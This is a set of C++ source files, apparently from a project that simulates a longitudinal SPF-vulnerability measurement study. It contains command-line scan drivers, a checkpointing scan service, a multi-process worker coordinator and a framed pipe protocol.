//   --fault-seed N   fault-plan seed (default: SPFAIL_FAULT_SEED); same
//                    seed + rate => bit-identical run at any thread count
//   --csv DIR        also write figure series as CSV into DIR
//   --trace FILE     record every SMTP/DNS wire frame the scan exchanges as
//                    JSONL into FILE (default: SPFAIL_TRACE when set) and
//                    print a trace summary; the file is bit-identical at any
//                    thread count for a fixed seed
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iostream>

#include "longitudinal/study.hpp"
#include "net/trace_stats.hpp"
#include "report/tables.hpp"
#include "util/stats.hpp"
#include "util/strings.hpp"

using namespace spfail;

namespace {

void write_csv(const std::string& dir, const char* slug,
               const util::TextTable& table) {
  const std::string path = dir + "/" + slug + ".csv";
  std::ofstream out(path);
  if (!out) {
    std::cerr << "cannot write " << path << "\n";
    return;
  }
  table.to_csv(out);
  std::cout << "  wrote " << path << "\n";
}

// Write the trace as JSONL and print its summary table.
void emit_trace(const std::string& path, const net::WireTrace& trace) {
  std::ofstream out(path);
  if (!out) {
    std::cerr << "cannot write " << path << "\n";
    return;
  }
  trace.write_jsonl(out);
  std::cout << "\n" << report::trace_summary(net::TraceStats::from(trace))
            << "\n  wrote " << path << " (" << trace.size() << " frames)\n";
}

}  // namespace

int main(int argc, char** argv) {
  double scale = 0.05;
  std::uint64_t seed = 2021;
  int threads = 0;
  bool initial_only = false;
  std::string csv_dir;
  faults::FaultConfig fault_config = faults::FaultConfig::from_env();
  std::string trace_path;
  if (const char* env = std::getenv("SPFAIL_TRACE")) trace_path = env;

  for (int i = 1; i < argc; ++i) {
    const std::string_view arg = argv[i];
    const auto next = [&]() -> const char* {
      if (i + 1 >= argc) {
        std::cerr << "missing value for " << arg << "\n";
        std::exit(2);
      }
      return argv[++i];
    };
    if (arg == "--scale") {
      scale = std::atof(next());
    } else if (arg == "--seed") {
      seed = static_cast<std::uint64_t>(std::atoll(next()));
    } else if (arg == "--threads") {
      threads = std::atoi(next());
    } else if (arg == "--initial-only") {
      initial_only = true;
    } else if (arg == "--fault-rate") {
      fault_config.rate = std::atof(next());
    } else if (arg == "--fault-seed") {
      fault_config.seed = static_cast<std::uint64_t>(std::atoll(next()));
    } else if (arg == "--csv") {
      csv_dir = next();
    } else if (arg == "--trace") {
      trace_path = next();
    } else {
      std::cerr << "unknown option " << arg << "\n";
      return 2;
    }
  }
  if (scale <= 0.0 || scale > 1.0) {
    std::cerr << "--scale must be in (0, 1]\n";
    return 2;
  }
  if (fault_config.rate < 0.0 || fault_config.rate > 1.0) {
    std::cerr << "--fault-rate must be in [0, 1]\n";
    return 2;
  }

  std::cout << "[1/3] Synthesising the Internet (scale " << scale << ", seed "
            << seed << ")...\n";
  population::FleetConfig fleet_config;
  fleet_config.scale = scale;
  fleet_config.seed = seed;
  population::Fleet fleet(fleet_config);
  std::cout << "      "
            << util::with_commas(static_cast<long long>(fleet.domains().size()))
            << " domains, "
            << util::with_commas(static_cast<long long>(fleet.address_count()))
            << " MTA addresses\n";

  net::WireTrace trace;

  if (initial_only) {
    std::cout << "[2/3] Initial measurement (2021-10-11)...\n";
    scan::CampaignConfig campaign_config;
    campaign_config.prober.responder = fleet.responder();
    campaign_config.threads = threads;
    campaign_config.faults = fault_config;
    if (!trace_path.empty()) campaign_config.trace = &trace;
    scan::Campaign campaign(campaign_config, fleet.dns(), fleet.clock(),
                            fleet);
    const scan::CampaignReport report = campaign.run(fleet.targets());
    std::cout << "[3/3] Results\n\n"
              << report::table3_outcomes(fleet, report) << "\n"
              << report::table4_breakdown(fleet, report) << "\n"
              << report::table7_behaviors(fleet, report) << "\n";
    if (fault_config.rate > 0.0) {
      std::cout << report::degradation_table(report.degradation) << "\n";
    }
    if (!trace_path.empty()) emit_trace(trace_path, trace);
    return 0;
  }

  std::cout << "[2/3] Four-month longitudinal study (initial scan, private\n"
               "      notification, public disclosure, 34 rounds, snapshot)"
               "...\n";
  longitudinal::StudyConfig study_config;
  study_config.threads = threads;
  study_config.faults = fault_config;
  if (!trace_path.empty()) study_config.trace = &trace;
  longitudinal::Study study(fleet, study_config);
  const longitudinal::StudyReport report = study.run();

  std::cout << "[3/3] Results\n\n"
            << "Initial: "
            << util::with_commas(static_cast<long long>(
                   report.initially_vulnerable_addresses))
            << " vulnerable addresses hosting "
            << util::with_commas(static_cast<long long>(
                   report.initially_vulnerable_domains))
            << " domains\n\n"
            << report::fig2_final_distribution(fleet, report) << "\n"
            << report::table5_tld_patch(fleet, report) << "\n"
            << report::notification_funnel(report) << "\n";

  for (const auto cohort :
       {longitudinal::Cohort::All, longitudinal::Cohort::AlexaTopList,
        longitudinal::Cohort::TwoWeekMx}) {
    const auto series = report::vulnerability_series(fleet, report, cohort);
    std::cout << "  " << util::sparkline(series) << "  " << to_string(cohort)
              << " (% vulnerable over time)\n";
  }

  if (fault_config.rate > 0.0) {
    std::cout << "\n" << report::degradation_table(report.degradation) << "\n";
  }
  if (!trace_path.empty()) emit_trace(trace_path, trace);

  if (!csv_dir.empty()) {
    std::cout << "\nCSV export:\n";
    write_csv(csv_dir, "fig5_conclusive",
              report::fig5_conclusive_series(fleet, report,
                                             longitudinal::Cohort::All));
    write_csv(csv_dir, "fig7_full",
              report::fig67_vulnerability_series(fleet, report, false));
    write_csv(csv_dir, "fig2_final",
              report::fig2_final_distribution(fleet, report));
  }
  return 0;
}
