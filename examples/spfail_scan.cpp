// spfail_scan: drive the whole measurement study from the command line —
// the operator tool the paper's authors effectively ran, against the
// simulated Internet.
//
//   usage: spfail_scan [--scale S] [--seed N] [--scenario NAMES]
//                      [--threads N] [--initial-only]
//                      [--sched auto|static|steal]
//                      [--steal-mode auto|none|random|adversarial]
//                      [--fault-rate R] [--fault-seed N] [--csv DIR]
//                      [--trace FILE] [--metrics FILE] [--metrics-wall]
//                      [--checkpoint FILE] [--checkpoint-every N]
//                      [--resume FILE] [--halt-after-rounds N]
//                      [--workers N] [--worker-restart-budget N]
//                      [--flag-table]
//
//   --scale S        population scale, 0 < S <= 1 (default 0.05)
//   --seed N         fleet seed (default 2021)
//   --scenario NAMES comma-separated attack-matrix scenarios (DESIGN.md §17):
//                    baseline, forwarding, alignment, misconfig. The fleet is
//                    staged with the specs' merged policy mix, the scan runs
//                    over it as usual, and one measured outcome table per
//                    spec is printed after the results (default:
//                    SPFAIL_SCENARIO). Scenario outcomes are bit-identical
//                    at any thread/worker count and across halt/resume;
//                    `--scenario baseline` is byte-identical to no flag
//   --flag-table     print the generated markdown flag table (the README's
//                    "Flags" section) and exit
//   --threads N      scan worker threads (default: SPFAIL_THREADS, else all
//                    cores); results are bit-identical at any count
//   --initial-only   run only the 2021-10-11 measurement, skip the
//                    longitudinal study
//   --sched P        slice scheduler (DESIGN.md §16): `steal` (default)
//                    splits each phase into fine batches on per-worker
//                    work-stealing deques; `static` forces the legacy
//                    one-shard-per-thread split (default: SPFAIL_SCHED);
//                    outputs are byte-identical either way
//   --steal-mode M   stealing discipline under --sched steal: `random`
//                    (default), `none` (batches stay home), `adversarial`
//                    (every worker raids all victims before its own work —
//                    a determinism stress mode for tests; default:
//                    SPFAIL_STEAL)
//   --fault-rate R   inject transient faults (SMTP tempfails, connection
//                    drops, latency spikes) into R of all probe attempts,
//                    0 <= R <= 1 (default: SPFAIL_FAULT_RATE, else 0); a
//                    degradation report is printed when R > 0
//   --fault-seed N   fault-plan seed (default: SPFAIL_FAULT_SEED); same
//                    seed + rate => bit-identical run at any thread count
//   --csv DIR        also write figure series as CSV into DIR
//   --trace FILE     record every SMTP/DNS wire frame the scan exchanges as
//                    JSONL into FILE (default: SPFAIL_TRACE when set) and
//                    print a trace summary; the file is bit-identical at any
//                    thread count for a fixed seed
//   --metrics FILE   record deterministic metrics (DESIGN.md §12): per-round
//                    JSONL snapshots into FILE, the final Prometheus text
//                    exposition into FILE.prom, and print a summary table
//                    (default: SPFAIL_METRICS when set); both files are
//                    bit-identical at any thread count for a fixed seed, and
//                    across --halt-after-rounds / --resume
//   --metrics-wall   additionally record real wall-clock stage timings
//                    (<name>_wall_ns families; SPFAIL_METRICS_WALL=1). These
//                    are profiling data, not deterministic — they appear in
//                    the metric outputs only with this flag
//   --checkpoint FILE
//                    write a resumable snapshot of the study state to FILE
//                    (atomically, at round boundaries)
//   --checkpoint-every N
//                    checkpoint every N-th round boundary (default 1)
//   --resume FILE    restore a snapshot written by --checkpoint and continue;
//                    the finished run's stdout, CSVs, and trace are
//                    byte-identical to an uninterrupted run (seed, scale,
//                    fault plan, and tracing must match the snapshot)
//   --halt-after-rounds N
//                    stop after N longitudinal rounds, writing a final
//                    checkpoint (requires --checkpoint); exit code 0
//   --workers N      distribute the scan over N crash-isolated worker
//                    processes (DESIGN.md §15; requires --checkpoint). A
//                    worker that dies — killed, crashed, or hung — is
//                    respawned from its per-worker checkpoint; the finished
//                    run's stdout, CSVs, trace, and metrics are
//                    byte-identical to --workers 1 (default: SPFAIL_WORKERS,
//                    else 1)
//   --worker-restart-budget N
//                    respawns allowed per worker before it is abandoned and
//                    its remaining work marked inconclusive (default:
//                    SPFAIL_WORKER_RESTART_BUDGET, else 3); a degradation
//                    table is printed when a worker was abandoned
//
// SIGINT/SIGTERM are caught: the run stops at the next round boundary,
// writes a final checkpoint when --checkpoint is set, and exits with code
// 130 (resume with --resume).
//
// All flags reject malformed values (e.g. `--threads x`, `--fault-rate 2`)
// with exit code 2 instead of silently coercing them.
#include <fstream>
#include <iostream>
#include <optional>
#include <string_view>

#include "net/trace_stats.hpp"
#include "obs/lane.hpp"
#include "report/tables.hpp"
#include "session/flag_registry.hpp"
#include "session/scan_session.hpp"
#include "util/shutdown.hpp"
#include "util/stats.hpp"
#include "util/strings.hpp"

using namespace spfail;

namespace {

void write_csv(const std::string& dir, const char* slug,
               const util::TextTable& table) {
  const std::string path = dir + "/" + slug + ".csv";
  std::ofstream out(path);
  if (!out) {
    std::cerr << "cannot write " << path << "\n";
    return;
  }
  table.to_csv(out);
  std::cout << "  wrote " << path << "\n";
}

// Write the trace as JSONL and print its summary table.
void emit_trace(const std::string& path, const net::WireTrace& trace) {
  std::ofstream out(path);
  if (!out) {
    std::cerr << "cannot write " << path << "\n";
    return;
  }
  trace.write_jsonl(out);
  std::cout << "\n" << report::trace_summary(net::TraceStats::from(trace))
            << "\n  wrote " << path << " (" << trace.size() << " frames)\n";
}

// Print the distributed-scan degradation table — only when a worker was
// actually abandoned, so fully recovered runs keep byte-identical stdout.
void emit_dist_report(session::ScanSession& session) {
  dist::Coordinator* coordinator = session.coordinator();
  if (coordinator == nullptr) return;
  const dist::DistReport report = coordinator->report();
  if (report.abandoned_count() == 0) return;
  std::cout << "\n" << report.summary();
}

// Print the per-scenario outcome tables (--scenario). Reports that measured
// nothing (baseline, or a mix that stages no senders) are suppressed so a
// `--scenario baseline` run keeps stdout byte-identical to a scenario-less
// one.
void emit_scenarios(session::ScanSession& session) {
  std::vector<scenario::ScenarioReport> measured;
  for (const scenario::ScenarioReport& report : session.scenario_reports()) {
    const std::uint64_t flows =
        report.legit.flows + report.forwarded.flows + report.spoof.flows;
    if (report.domains_staged == 0 && flows == 0) continue;
    measured.push_back(report);
  }
  if (measured.empty()) return;
  std::cout << "\n" << report::scenario_outcomes(measured);
}

// Write the JSONL round snapshots + Prometheus exposition and print the
// metric summary table.
void emit_metrics(session::ScanSession& session) {
  const session::ScanConfig& config = session.config();
  session.write_metrics_files();
  std::cout << "\n"
            << report::metrics_summary(*session.metrics(), config.metrics_wall)
            << "\n  wrote " << config.metrics_path << " ("
            << session.metric_lines().size() << " snapshots)\n  wrote "
            << config.metrics_path << ".prom\n";
}

int run(const session::ScanConfig& config) {
  // Worker threads read this process-wide flag, so it is installed for the
  // whole run, before the session spawns anything.
  std::optional<obs::WallProfileScope> wall;
  if (config.metrics_wall) wall.emplace();

  session::ScanSession session(config);

  std::cout << "[1/3] Synthesising the Internet (scale " << config.scale
            << ", seed " << config.fleet_seed << ")...\n";
  population::Fleet& fleet = session.fleet();
  std::cout << "      "
            << util::with_commas(static_cast<long long>(fleet.domains().size()))
            << " domains, "
            << util::with_commas(static_cast<long long>(fleet.address_count()))
            << " MTA addresses\n";

  if (config.initial_only) {
    std::cout << "[2/3] Initial measurement (2021-10-11)...\n";
    const scan::CampaignReport& report = session.initial();
    std::cout << "[3/3] Results\n\n"
              << report::table3_outcomes(fleet, report) << "\n"
              << report::table4_breakdown(fleet, report) << "\n"
              << report::table7_behaviors(fleet, report) << "\n";
    if (config.faults.rate > 0.0) {
      std::cout << report::degradation_table(report.degradation) << "\n";
    }
    if (session.trace()) emit_trace(config.trace_path, *session.trace());
    if (session.metrics() != nullptr) emit_metrics(session);
    emit_dist_report(session);
    emit_scenarios(session);
    return 0;
  }

  std::cout << "[2/3] Four-month longitudinal study (initial scan, private\n"
               "      notification, public disclosure, 34 rounds, snapshot)"
               "...\n";
  const longitudinal::StudyReport* report = session.study();
  if (report == nullptr) {
    // Halted at a checkpoint (--halt-after-rounds or a caught termination
    // signal); the stderr status line already named the snapshot to resume
    // from. The metric stream so far rides in the checkpoint, so no partial
    // files are written here.
    return session.interrupted() ? 130 : 0;
  }

  std::cout << "[3/3] Results\n\n"
            << "Initial: "
            << util::with_commas(static_cast<long long>(
                   report->initially_vulnerable_addresses))
            << " vulnerable addresses hosting "
            << util::with_commas(static_cast<long long>(
                   report->initially_vulnerable_domains))
            << " domains\n\n"
            << report::fig2_final_distribution(fleet, *report) << "\n"
            << report::table5_tld_patch(fleet, *report) << "\n"
            << report::notification_funnel(*report) << "\n";

  for (const auto cohort :
       {longitudinal::Cohort::All, longitudinal::Cohort::AlexaTopList,
        longitudinal::Cohort::TwoWeekMx}) {
    const auto series = report::vulnerability_series(fleet, *report, cohort);
    std::cout << "  " << util::sparkline(series) << "  " << to_string(cohort)
              << " (% vulnerable over time)\n";
  }

  if (config.faults.rate > 0.0) {
    std::cout << "\n" << report::degradation_table(report->degradation) << "\n";
  }
  if (session.trace()) emit_trace(config.trace_path, *session.trace());
  if (session.metrics() != nullptr) emit_metrics(session);
  emit_dist_report(session);
  emit_scenarios(session);

  if (!config.csv_dir.empty()) {
    std::cout << "\nCSV export:\n";
    write_csv(config.csv_dir, "fig5_conclusive",
              report::fig5_conclusive_series(fleet, *report,
                                             longitudinal::Cohort::All));
    write_csv(config.csv_dir, "fig7_full",
              report::fig67_vulnerability_series(fleet, *report, false));
    write_csv(config.csv_dir, "fig2_final",
              report::fig2_final_distribution(fleet, *report));
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  // Graceful shutdown: SIGINT/SIGTERM set a flag the study loop checks at
  // round boundaries (checkpoint, clean exit) instead of killing the run.
  util::install_shutdown_handlers();
  // --flag-table is a meta flag (documentation generator), not a scan knob:
  // handle it before config parsing so it needs no valid configuration.
  for (int i = 1; i < argc; ++i) {
    if (std::string_view(argv[i]) == "--flag-table") {
      std::cout << session::flag_table_markdown();
      return 0;
    }
  }
  try {
    return run(session::ScanConfig::from_args(argc, argv));
  } catch (const session::ScanConfigError& e) {
    std::cerr << e.what() << "\n";
    return 2;
  } catch (const snapshot::SnapshotError& e) {
    std::cerr << e.what() << "\n";
    return 2;
  }
}
