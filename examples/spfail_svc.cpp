// spfail_svc: the long-running scan service (DESIGN.md §18) — spfaild in
// binary form. Operators point it at a state directory and a control file;
// the service multiplexes the submitted scan jobs through admission control,
// checkpoints each independently, and survives being killed at any moment:
// restarting with the same flags resumes from <dir>/svc_state plus the
// per-job checkpoints and produces byte-identical reports, event log, and
// metric files.
//
//   usage: spfail_svc [--dir DIR] [--control PATH] [--max-active-jobs N]
//                     [--rounds-per-tick N] [--bucket-capacity N]
//                     [--bucket-refill N] [--breaker-threshold N]
//                     [--breaker-cooldown N] [--defer-budget N]
//                     [--max-ticks N] [--metrics PATH] [--flag-table]
//
// Every flag also reads from its SPFAIL_SVC_* environment variable; run
// `spfail_svc --flag-table` for the generated reference table (the README's
// service section).
//
// Control file grammar (re-read every tick, consumed strictly in order):
//
//   submit <id> [scale S] [seed N] [study-seed N] [threads N]
//               [scenario NAMES] [scenario-rounds N] [fault-rate R]
//               [fault-seed N] [priority N] [recur TICKS] [runs N]
//               [nets A,B,C]
//   status                # write <dir>/status.txt
//   drain                 # finish everything queued/running, then exit
//   at <tick> <command>   # defer a command until the given tick
//
// Exit codes: 0 drained, 3 tick budget exhausted, 42 test-kill fired,
// 2 configuration or control-script error.
//
// Test hook: SPFAIL_SVC_TEST_KILL="TICK:POINT" (POINT one of admission,
// ckpt, report, state) hard-exits the process at the matching side-effect
// boundary — the restart smoke test's stand-in for SIGKILL.
#include <cstdlib>
#include <iostream>
#include <string>
#include <string_view>

#include "session/flag_parse.hpp"
#include "snapshot/snapshot.hpp"
#include "svc/service.hpp"

namespace {

using namespace spfail;

svc::KillPoint parse_kill_point(std::string_view name) {
  if (name == "admission") return svc::KillPoint::AfterAdmission;
  if (name == "ckpt") return svc::KillPoint::AfterJobCheckpoint;
  if (name == "report") return svc::KillPoint::AfterReportWrite;
  if (name == "state") return svc::KillPoint::AfterStateSave;
  session::reject_value("SPFAIL_SVC_TEST_KILL", name,
                        "admission/ckpt/report/state");
}

svc::ServiceOptions options_from_env() {
  svc::ServiceOptions options;
  options.log = &std::cerr;
  if (const char* kill = std::getenv("SPFAIL_SVC_TEST_KILL")) {
    const std::string_view text = kill;
    const std::size_t colon = text.find(':');
    if (colon == std::string_view::npos) {
      session::reject_value("SPFAIL_SVC_TEST_KILL", text, "TICK:POINT");
    }
    svc::ServiceOptions::KillAt kill_at;
    kill_at.tick = session::parse_u64("SPFAIL_SVC_TEST_KILL",
                                     std::string(text.substr(0, colon)).c_str());
    kill_at.point = parse_kill_point(text.substr(colon + 1));
    options.kill_at = kill_at;
  }
  return options;
}

}  // namespace

int main(int argc, char** argv) {
  for (int i = 1; i < argc; ++i) {
    if (std::string_view(argv[i]) == "--flag-table") {
      std::cout << svc::svc_flag_table_markdown();
      return 0;
    }
  }
  try {
    svc::ServiceLoop loop(svc::svc_config_from_args(argc, argv),
                          options_from_env());
    const svc::ServiceLoop::Status status = loop.run();
    std::cerr << "spfail_svc: " << svc::to_string(status) << " after "
              << loop.ticks() << " tick(s)\n";
    switch (status) {
      case svc::ServiceLoop::Status::Drained:
        return 0;
      case svc::ServiceLoop::Status::MaxTicks:
        return 3;
      case svc::ServiceLoop::Status::Killed:
        // Mimic the kill it simulates: stop dead, no unwinding, no flushes.
        std::_Exit(42);
    }
    return 0;
  } catch (const session::ScanConfigError& error) {
    std::cerr << "spfail_svc: " << error.what() << "\n";
    return 2;
  } catch (const svc::ControlError& error) {
    std::cerr << "spfail_svc: " << error.what() << "\n";
    return 2;
  } catch (const snapshot::SnapshotError& error) {
    std::cerr << "spfail_svc: " << error.what() << "\n";
    return 2;
  }
}
