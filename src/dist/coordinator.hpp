// Crash-tolerant coordinator for distributed scanning (DESIGN.md §15).
//
// The coordinator forks N worker processes lazily at the first batch. Each
// worker inherits the coordinator's full state — fleet, campaign, study — by
// copy-on-write, so no configuration ever travels over the wire; requests
// carry only the work items (plus the round context and clock position) and
// replies carry slice results. Ownership is by address range: the population
// is partitioned once into W contiguous shards of the sorted address list,
// so every host's probe-visible residue (greylist map, flaky-RNG cursor)
// accumulates in exactly one worker across the whole run.
//
// Failure model: a worker that closes its pipe, sends a corrupt frame, or
// misses the reply deadline is SIGKILLed and respawned by forking the
// *current* coordinator state; the respawn restores its probe residues from
// its own per-chunk checkpoint and replays the stored reply when the resent
// request matches the checkpointed sequence number (exactly-once execution).
// Each worker has a restart budget; when it is exhausted the worker is
// abandoned and its remaining chunks are synthesized as inconclusive —
// recorded in the DistReport — instead of aborting the scan.
#pragma once

#include <sys/types.h>

#include <cstdint>
#include <deque>
#include <functional>
#include <span>
#include <string>
#include <vector>

#include "dist/protocol.hpp"
#include "longitudinal/study.hpp"
#include "population/fleet.hpp"
#include "scan/campaign.hpp"

namespace spfail::dist {

// Degradation accounting for the distributed layer — deliberately separate
// from faults::DegradationReport, whose wire format is frozen in snapshots.
struct DistReport {
  struct Worker {
    std::uint32_t restarts = 0;
    bool abandoned = false;
    std::uint64_t items_lost = 0;  // synthesized as inconclusive
  };
  std::vector<Worker> workers;

  std::uint32_t total_restarts() const;
  std::size_t abandoned_count() const;
  std::uint64_t items_lost() const;
  // Per-worker degradation table; callers print it only when
  // abandoned_count() > 0, so fully recovered runs stay byte-identical to
  // uninterrupted ones.
  std::string summary() const;
};

class Coordinator final : public longitudinal::DistHooks {
 public:
  struct Config {
    std::size_t workers = 2;
    // Respawns allowed per worker before it is abandoned.
    std::uint32_t restart_budget = 3;
    // Stem for per-worker checkpoints (stem + ".w<k>"). Empty disables
    // worker checkpointing — respawned workers then re-execute from the
    // forked state instead of replaying.
    std::string checkpoint_stem;
    // Max items per request (SPFAIL_DIST_CHUNK overrides).
    std::size_t chunk = 1024;
    // Reply deadline per outstanding request (SPFAIL_DIST_TIMEOUT_MS).
    long timeout_ms = 120000;
  };
  // Resolves the env overrides on top of the given flag values.
  static Config resolve(Config config);

  Coordinator(population::Fleet& fleet, Config config);
  ~Coordinator() override;
  Coordinator(const Coordinator&) = delete;
  Coordinator& operator=(const Coordinator&) = delete;

  // The study is bound late (the session builds the coordinator before the
  // study); must happen before the first observation batch.
  void bind_study(longitudinal::Study* study) noexcept { study_ = study; }

  // scan::ShardRunner
  std::vector<scan::WaveSliceResult> run_wave(
      scan::Campaign& campaign, std::span<const scan::WaveItem> items,
      const scan::WaveContext& ctx) override;
  std::vector<scan::RequeueSliceResult> run_requeue(
      scan::Campaign& campaign, std::span<const scan::RequeueItem> items,
      const scan::WaveContext& ctx) override;

  // longitudinal::DistHooks
  std::vector<longitudinal::Study::ObserveSliceResult> run_observe(
      longitudinal::Study& study,
      std::span<const longitudinal::Study::ObserveJob> jobs,
      const longitudinal::Study::ObserveContext& ctx) override;
  std::vector<std::optional<snapshot::StudySnapshot::HostState>> capture_hosts(
      const std::vector<util::IpAddress>& addresses) override;

  // Graceful teardown: Shutdown frames, reap, remove worker checkpoints.
  // Idempotent; also run by the destructor.
  void shutdown();

  DistReport report() const;

  // Total DNS query-log entries produced inside workers and not forwarded
  // (per-entry logs stay worker-local; see protocol.hpp WaveRep::query_count
  // and DESIGN.md §15). Reported once to stderr at shutdown.
  std::uint64_t forwarded_query_count() const noexcept {
    return forwarded_queries_;
  }

  // --- worker-side access (used by worker_main inside the forked child) ---
  population::Fleet& fleet() noexcept { return fleet_; }
  scan::Campaign* campaign() noexcept { return campaign_; }
  longitudinal::Study* study() noexcept { return study_; }
  const Config& config() const noexcept { return config_; }
  // Distinguishes this run's worker checkpoints from stale files.
  std::uint64_t nonce() const noexcept { return nonce_; }
  // The child-side pipe ends of slot `index`; valid only inside the child.
  Channel worker_channel(std::size_t index) const;

 private:
  struct WorkerSlot {
    pid_t pid = -1;
    int to_child = -1;    // parent write end (requests)
    int from_child = -1;  // parent read end (replies)
    int child_read = -1;  // child ends; -1 in the parent after fork
    int child_write = -1;
    std::uint32_t generation = 0;  // bumps on every respawn
    std::uint32_t restarts = 0;
    bool abandoned = false;
    std::uint64_t items_lost = 0;
  };

  // One request's worth of work: a contiguous run of items owned by a single
  // worker. The encoded request frame is kept for resending after a respawn.
  struct Chunk {
    std::size_t worker = 0;
    std::uint64_t seq = 0;
    std::size_t first = 0;
    std::size_t count = 0;
    std::string request;
    bool done = false;
  };

  void ensure_spawned();
  bool spawn_once(std::size_t index);
  // Kill + reap + respawn (retrying within the budget); false = abandoned.
  bool revive(std::size_t index, const std::string& why, std::uint64_t seq);
  Channel parent_channel(std::size_t index) const;
  std::string worker_checkpoint_path(std::size_t index) const;

  // Cuts the item list [0, n) into owner-contiguous chunks of at most
  // config_.chunk items and assigns sequence numbers in global chunk order
  // (the order is deterministic, so replay matching survives respawns).
  std::vector<Chunk> plan_chunks(
      std::size_t n, const std::function<std::size_t(std::size_t)>& owner);

  // Drives one batch: at most one outstanding request per worker, FIFO per
  // worker, crash/timeout detection, respawn-and-resend, abandonment with
  // synthesized results. `on_reply` must throw ProtocolError on a sequence
  // mismatch before storing anything.
  void run_chunks(
      std::vector<Chunk>& chunks, MsgType reply_type,
      const std::function<void(std::size_t, Chunk&, MessageView&)>& on_reply,
      const std::function<void(std::size_t, Chunk&)>& synthesize);

  population::Fleet& fleet_;
  Config config_;
  std::uint64_t nonce_ = 0;
  scan::Campaign* campaign_ = nullptr;  // set for the duration of a wave
  longitudinal::Study* study_ = nullptr;
  bool spawned_ = false;
  std::vector<util::IpAddress> cuts_;  // W-1 ownership boundaries
  std::vector<WorkerSlot> slots_;
  std::uint64_t seq_ = 1;
  std::uint64_t forwarded_queries_ = 0;  // aggregate of reply query_count
  bool queries_reported_ = false;        // shutdown note printed already
};

// Entry point of a forked worker process; never returns (always _exit).
[[noreturn]] void worker_main(Coordinator& coordinator, std::size_t index,
                              std::uint32_t generation);

}  // namespace spfail::dist
