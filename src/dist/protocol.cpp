#include "dist/protocol.hpp"

#include <cerrno>
#include <unistd.h>

#include <algorithm>
#include <utility>

#include "snapshot/enums.hpp"
#include "snapshot/fields.hpp"

namespace spfail::dist {

namespace {

// A frame is at most this large; anything bigger is treated as a corrupt
// length prefix, not an allocation request.
constexpr std::uint32_t kMaxFrame = 1u << 30;

MsgType decode_type(std::uint8_t v) {
  switch (v) {
    case 1:
      return MsgType::Hello;
    case 2:
      return MsgType::WaveReq;
    case 3:
      return MsgType::WaveRep;
    case 4:
      return MsgType::RequeueReq;
    case 5:
      return MsgType::RequeueRep;
    case 6:
      return MsgType::ObserveReq;
    case 7:
      return MsgType::ObserveRep;
    case 8:
      return MsgType::CaptureReq;
    case 9:
      return MsgType::CaptureRep;
    case 10:
      return MsgType::Shutdown;
  }
  throw ProtocolError("unmapped message type byte " + std::to_string(v));
}

void put_wave_ctx(snapshot::Writer& w, const scan::WaveContext& ctx) {
  w.str(ctx.suite);
  w.u64(ctx.round);
  w.i64(ctx.per_test_advance);
  w.boolean(ctx.tracing);
  w.boolean(ctx.metrics);
}

scan::WaveContext get_wave_ctx(snapshot::Reader& r) {
  scan::WaveContext ctx;
  ctx.suite = r.str();
  ctx.round = r.u64();
  ctx.per_test_advance = r.i64();
  ctx.tracing = r.boolean();
  ctx.metrics = r.boolean();
  return ctx;
}

void put_observe_ctx(snapshot::Writer& w,
                     const longitudinal::Study::ObserveContext& ctx) {
  w.str(ctx.suite);
  w.u64(ctx.fault_round);
  w.boolean(ctx.tracing);
  w.boolean(ctx.metrics);
}

longitudinal::Study::ObserveContext get_observe_ctx(snapshot::Reader& r) {
  longitudinal::Study::ObserveContext ctx;
  ctx.suite = r.str();
  ctx.fault_round = r.u64();
  ctx.tracing = r.boolean();
  ctx.metrics = r.boolean();
  return ctx;
}

void put_trace(snapshot::Writer& w, const net::WireTrace& trace) {
  w.u64(trace.size());
  for (const auto& frame : trace.frames()) snapshot::put_frame(w, frame);
}

net::WireTrace get_trace(snapshot::Reader& r) {
  net::WireTrace trace;
  const std::uint64_t n = r.u64();
  for (std::uint64_t i = 0; i < n; ++i) {
    trace.record(snapshot::get_frame(r));
  }
  return trace;
}

void put_metrics(snapshot::Writer& w, const obs::Registry& metrics,
                 bool present) {
  w.boolean(present);
  if (present) metrics.encode(w);
}

obs::Registry get_metrics(snapshot::Reader& r) {
  if (!r.boolean()) return obs::Registry();
  return obs::Registry::decode(r);
}

}  // namespace

std::string to_string(MsgType type) {
  switch (type) {
    case MsgType::Hello:
      return "Hello";
    case MsgType::WaveReq:
      return "WaveReq";
    case MsgType::WaveRep:
      return "WaveRep";
    case MsgType::RequeueReq:
      return "RequeueReq";
    case MsgType::RequeueRep:
      return "RequeueRep";
    case MsgType::ObserveReq:
      return "ObserveReq";
    case MsgType::ObserveRep:
      return "ObserveRep";
    case MsgType::CaptureReq:
      return "CaptureReq";
    case MsgType::CaptureRep:
      return "CaptureRep";
    case MsgType::Shutdown:
      return "Shutdown";
  }
  return "?";
}

std::string MessageBuilder::finish() {
  const std::uint64_t checksum = snapshot::payload_checksum(body_.bytes());
  body_.u64(checksum);
  return body_.take();
}

MessageView::MessageView(std::string_view frame)
    : type_(MsgType::Shutdown), body_(std::string_view{}) {
  if (frame.size() < 1 + 8) {
    throw ProtocolError("frame of " + std::to_string(frame.size()) +
                        " bytes is shorter than type + checksum");
  }
  const std::string_view checked = frame.substr(0, frame.size() - 8);
  snapshot::Reader tail(frame.substr(frame.size() - 8));
  if (tail.u64() != snapshot::payload_checksum(checked)) {
    throw ProtocolError("frame checksum mismatch");
  }
  type_ = decode_type(static_cast<std::uint8_t>(frame[0]));
  body_ = snapshot::Reader(checked.substr(1));
}

bool Channel::receive(std::string& frame) {
  unsigned char prefix[4];
  std::size_t got = 0;
  while (got < sizeof(prefix)) {
    const ssize_t n = ::read(read_fd_, prefix + got, sizeof(prefix) - got);
    if (n < 0) {
      if (errno == EINTR) continue;
      throw ProtocolError("pipe read failed (errno " + std::to_string(errno) +
                          ")");
    }
    if (n == 0) {
      if (got == 0) return false;  // clean EOF at a frame boundary
      throw ProtocolError("EOF inside a frame length prefix");
    }
    got += static_cast<std::size_t>(n);
  }
  const std::uint32_t length = static_cast<std::uint32_t>(prefix[0]) |
                               (static_cast<std::uint32_t>(prefix[1]) << 8) |
                               (static_cast<std::uint32_t>(prefix[2]) << 16) |
                               (static_cast<std::uint32_t>(prefix[3]) << 24);
  if (length == 0 || length > kMaxFrame) {
    throw ProtocolError("frame length " + std::to_string(length) +
                        " is outside (0, 2^30]");
  }
  frame.resize(length);
  std::size_t read_so_far = 0;
  while (read_so_far < length) {
    const ssize_t n =
        ::read(read_fd_, frame.data() + read_so_far, length - read_so_far);
    if (n < 0) {
      if (errno == EINTR) continue;
